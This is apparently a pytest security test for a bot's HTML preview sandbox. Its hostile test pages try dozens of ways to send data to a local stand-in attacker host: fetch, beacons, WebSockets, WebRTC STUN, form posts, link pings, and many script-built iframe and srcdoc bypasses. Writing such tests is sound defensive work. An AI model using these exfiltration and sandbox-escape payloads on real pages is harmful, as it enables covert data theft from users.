"""A hostile page in a real Chromium tries to send words to another host.

The same page without a guard shows that it can.
"""

import asyncio
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser as Chromium
from playwright.async_api import Frame, Page, expect

from bot.serving import serving
from bot.web.previews import preview_routes
from tests.checks import PATIENCE_S
from tests.playground.browser.screen import CHROMIUM
from tests.ports import free_port

pytestmark = [
    pytest.mark.skipif(not CHROMIUM, reason="no chromium on PATH"),
    pytest.mark.asyncio(loop_scope="session"),
]
NAME = "x" * 32
# What runs at once, and what waits for a click. `{to}` is the attacker's host.
AT_ONCE = """<!doctype html><html><head><meta http-equiv="refresh" content="1;url=http://{to}/refresh">
<link rel="preconnect" href="http://{to}"><link rel="dns-prefetch" href="http://{to}">
<link rel="prefetch" href="http://{to}/prefetch"><link rel="stylesheet" href="http://{to}/style">
<script type="speculationrules">{{"prefetch":[{{"urls":["http://{to}/rules"]}}]}}</script>
<style>@import "http://{to}/import"; body {{background: url(http://{to}/background)}}</style></head>
<body><img src="http://{to}/img"><iframe src="http://{to}/frame"></iframe><object data="http://{to}/object"></object>
<iframe srcdoc="&lt;img src=http://{to}/srcdoc&gt;"></iframe><embed src="http://{to}/embed"><video src="http://{to}/v"></video>
<p id="still">words of the thread</p><p id="ran"></p>
<script>
const tries = [
  () => fetch("http://{to}/fetch", {{mode: "no-cors"}}), () => navigator.sendBeacon("http://{to}/beacon", "x"),
  () => new WebSocket("ws://{to}/socket"), () => new EventSource("http://{to}/events"),
  () => {{ new Image().src = "http://{to}/image" }}, () => import("http://{to}/module"),
  () => window.open("http://{to}/open"), () => {{ top.location = "http://{to}/top" }},
  () => {{ parent.location.href = "http://{to}/parent" }},
  () => {{ const made = document.createElement("link"); made.rel = "preconnect"; made.href = "http://{to}";
    document.head.append(made) }},
  () => {{ const made = document.createElement("form"); made.action = "http://{to}/form"; made.method = "post";
    document.body.append(made); made.submit() }},
  () => {{ const call = new RTCPeerConnection({{iceServers: [{{urls: "stun:{stun}"}}]}});
    call.createDataChannel("x"); call.createOffer().then(offer => call.setLocalDescription(offer)) }},
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://{to}/worker')"]))),
  () => setTimeout(() => {{ location = "http://{to}/location" }}, 700),
];
for (const attempt of tries) {{ try {{ Promise.resolve(attempt()).catch(() => 0) }} catch {{}} }}
document.getElementById("ran").textContent = "ran";
</script></body></html>"""
# What would take an unguarded page away before its slowest ways have been tried.
LEAVING = ("http-equiv", "top.location", "parent.location", "made.submit()")
STAYING = re.sub("|".join(map(re.escape, LEAVING)), "x.y", AT_ONCE)
BY_CLICK = """<!doctype html><html><body><a id="one" href="http://{to}/link">here</a>
<a id="two" target="_blank" href="http://{to}/blank">here</a><a id="three" target="_top" href="http://{to}/top">here</a>
<a id="four" ping="http://{to}/ping" href="#x">here</a><a id="five" download href="http://{to}/download">here</a>
<form action="http://{to}/form"><input name="secret" value="words"><button id="six">go</button></form></body></html>"""


# Frames that a script makes have their own WebRTC, if it gets one to run its words.
FRAMES = """<!doctype html><html><body><p id="made"></p><p id="ran"></p><script>
const CALL = "const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{stun}'}}]}}); c.createDataChannel('x');" +
  "c.createOffer().then(o => c.setLocalDescription(o))";
const INNER = "<script>" + CALL + "</" + "script>", QUOTED = INNER.replaceAll("<", "&lt;");
const TAG = '<iframe srcdoc="' + INNER + '"></iframe>', XHTML = "http://www.w3.org/1999/xhtml";
const made = () => document.createElement("iframe"), shown = one => document.body.append(one);
const attribute = () => {{ const one = document.createAttribute("srcdoc"); one.value = INNER; return one }};
const tries = [
  () => {{ const one = made(); one.srcdoc = INNER; shown(one) }},
  () => {{ const one = made(); one.setAttribute("srcdoc", INNER); shown(one) }},
  () => {{ const one = made(); one.setAttributeNS(null, "srcdoc", INNER); shown(one) }},
  () => {{ const one = made(); one.setAttributeNode(attribute()); shown(one) }},
  () => {{ const one = made(); one.attributes.setNamedItem(attribute()); shown(one) }},
  () => {{ const one = made(); one.setAttribute("srcdoc", ""); one.attributes.srcdoc.nodeValue = INNER; shown(one) }},
  () => {{ const one = made(), from = document.createElement("div"); from.setAttribute("srcdoc", INNER);
    const moved = from.getAttributeNode("srcdoc"); from.removeAttributeNode(moved); one.setAttributeNode(moved);
    shown(one) }},
  () => {{ const one = made(); one.src = "javascript:" + CALL; shown(one) }},
  () => {{ const one = made(); one.src = "data:text/html," + INNER; shown(one) }},
  () => {{ const one = made(); one.src = URL.createObjectURL(new Blob([INNER], {{type: "text/html"}})); shown(one) }},
  () => {{ const one = made(); shown(one); one.contentWindow.eval(CALL) }},
  () => {{ class Own extends HTMLIFrameElement {{}} customElements.define("x-i", Own, {{extends: "iframe"}});
    const one = new Own(); one.setAttribute("srcdoc", INNER); shown(one) }},
  () => {{ const other = document.implementation.createDocument(XHTML, "iframe", null).documentElement;
    other.setAttribute("srcdoc", INNER); shown(document.adoptNode(other)) }},
  () => document.body.insertAdjacentHTML("beforeend", TAG),
  () => document.body.append(document.createRange().createContextualFragment(TAG)),
  () => document.body.append(Document.parseHTMLUnsafe(TAG).querySelector("iframe")),
  () => shown(document.adoptNode(new DOMParser().parseFromString(
    '<h:iframe xmlns:h="' + XHTML + '" srcdoc="' + QUOTED + '"/>', "application/xhtml+xml").documentElement)),
  () => {{ const own = trustedTypes.createPolicy("own", {{createHTML: html => html}}); const one = made();
    one.srcdoc = own.createHTML(INNER); shown(one) }},
  () => {{ const set = document.createElement("frameset"), one = document.createElement("frame");
    one.src = "javascript:" + CALL; set.append(one); document.documentElement.append(set) }},
  () => new (open("about:blank").RTCPeerConnection)(),
  () => {{ String.prototype.includes = () => false; String.prototype.toLowerCase = () => "";
    Function.prototype.call = () => false; document.body.insertAdjacentHTML("beforeend", TAG) }},
];
for (const attempt of tries) {{ try {{ attempt() }} catch {{}} }}
document.getElementById("made").innerHTML = "<b>bold</b>";
document.getElementById("ran").textContent = "ran";
</script>{end}</body></html>"""
PIECES = "<script>document.write('<ifr'); document.write('ame srcdoc=\"' + INNER + '\"></iframe>')</script>"


@dataclass
class Attacker(asyncio.DatagramProtocol):
    """Counts connections and datagrams; answers nothing."""

    port: int = 0
    stun: int = 0
    asked: list[str] = field(default_factory=list)
    came: asyncio.Event = field(default_factory=asyncio.Event)

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.asked.append("connected")
        self.came.set()
        self.asked.append((await reader.readline()).decode("latin-1"))
        writer.close()

    @property
    def sent(self) -> list[str]:
        """More than that a browser connected, as it does before it asks a policy about a navigation by a script."""
        return [one for one in self.asked if one not in {"connected", ""}]

    def datagram_received(self, data: bytes, address: object) -> None:
        self.asked.append("datagram")
        self.came.set()

    def made(self, html: str) -> str:
        return html.format(to=f"127.0.0.1:{self.port}", stun=f"127.0.0.1:{self.stun}", end=PIECES)


@asynccontextmanager
async def attacking() -> AsyncIterator[Attacker]:
    found = Attacker()
    server = await asyncio.start_server(found.take, "127.0.0.1", 0)
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: found,
        ("127.0.0.1", 0),
    )
    found.port = server.sockets[0].getsockname()[1]
    found.stun = transport.get_extra_info("sockname")[1]
    async with server:
        yield found
    transport.close()
    await asyncio.sleep(0)  # it closes its socket in the next round


@dataclass
class Shown:
    html: str = ""
    port: int = 0

    def at(self, path: str) -> str:
        return f"http://localhost:{self.port}/{path}"


@pytest_asyncio.fixture(loop_scope="session")
async def shown() -> AsyncIterator[Shown]:
    found = Shown()

    async def look(_: str) -> str | None:
        return found.html

    async def bare(_: web.Request) -> web.Response:
        return web.Response(text=found.html, content_type="text/html")

    app = web.Application()
    app.add_routes([*preview_routes(look), web.get("/bare", bare)])
    async with serving(app, "localhost", free_port()) as found.port:
        yield found


@asynccontextmanager
async def opened(chromium: Chromium, address: str) -> AsyncIterator[Page]:
    context = await chromium.new_context()
    context.set_default_timeout(PATIENCE_S * 1000)
    page = await context.new_page()
    await page.goto(address, wait_until="domcontentloaded")
    yield page
    await context.close()


async def until(found: Attacker, path: str) -> None:
    async with asyncio.timeout(PATIENCE_S):
        while not any(f" {path} " in line for line in found.asked):
            found.came.clear()
            await found.came.wait()


@pytest.mark.parametrize("query", ["", "?scripts=1"])
async def test_nothing_is_sent_by_itself(chromium: Chromium, shown: Shown, query: str) -> None:
    async with attacking() as attacker, attacking() as control:
        shown.html = attacker.made(AT_ONCE)
        async with opened(chromium, shown.at(f"previews/{NAME}{query}")) as page:
            frame = page.frames[1]
            await expect(frame.locator("#still")).to_have_text("words of the thread")
            await expect(frame.locator("#ran")).to_have_text("ran" if query else "")
            # The same page without a guard, opened later, has got out by its slowest ways; so this one could have, too.
            shown.html = control.made(STAYING)
            async with opened(chromium, shown.at("bare")):
                for path in ("/img", "/location"):
                    await until(control, path)
            assert page.url == shown.at(f"previews/{NAME}{query}")
        assert "datagram" in control.asked
        assert attacker.sent == []
        assert attacker.asked == [] or query


@pytest.mark.parametrize("query", ["", "?scripts=1"])
@pytest.mark.parametrize("target", ["one", "two", "three", "four", "five", "six"])
async def test_nothing_is_sent_by_a_click(chromium: Chromium, shown: Shown, query: str, target: str) -> None:
    async with attacking() as attacker, attacking() as control:
        shown.html = attacker.made(BY_CLICK)
        async with opened(chromium, shown.at(f"previews/{NAME}{query}")) as page:
            await click(page, page.frames[1], target)
            shown.html = control.made(BY_CLICK)
            async with opened(chromium, shown.at("bare")) as bare:
                await click(bare, bare.main_frame, target)
                async with asyncio.timeout(PATIENCE_S):
                    await control.came.wait()
            assert page.url == shown.at(f"previews/{NAME}{query}")
        assert attacker.asked == []


async def click(page: Page, frame: Frame, target: str) -> None:
    """As a hand does it, waiting for nothing that may follow."""
    box = await frame.locator(f"#{target}").bounding_box()
    assert box is not None
    await page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


async def test_what_the_frame_shows_is_not_opened_by_itself(chromium: Chromium, shown: Shown) -> None:
    async with attacking() as attacker:
        shown.html = attacker.made(AT_ONCE)
        async with opened(chromium, shown.at(f"previews/{NAME}/page?scripts=1")) as page:
            assert "words of the thread" not in await page.content()
        assert attacker.asked == []


async def test_a_frame_that_a_script_makes_runs_nothing(chromium: Chromium, shown: Shown) -> None:
    async with attacking() as attacker, attacking() as control:
        shown.html = attacker.made(FRAMES)
        async with opened(chromium, shown.at(f"previews/{NAME}?scripts=1")) as page:
            frame = page.frames[1]
            await expect(frame.locator("#ran")).to_have_text("ran")
            await expect(frame.locator("#made b")).to_have_text("bold")  # what its scripts write otherwise stands
            shown.html = control.made(FRAMES)
            async with opened(chromium, shown.at("bare")), asyncio.timeout(PATIENCE_S):
                await control.came.wait()
            await expect(frame.locator("iframe[srcdoc]:not([srcdoc=''])")).to_have_count(0)
        assert attacker.asked == []


async def test_what_stays_possible_is_said_before_scripts_run(chromium: Chromium, shown: Shown) -> None:
    shown.html = "<p>words</p>"
    async with opened(chromium, shown.at(f"previews/{NAME}")) as page:
        await expect(page.locator("small")).to_contain_text("may let another server know")
    async with opened(chromium, shown.at(f"previews/{NAME}?scripts=1")) as page:
        await expect(page.locator("small")).to_have_count(0)
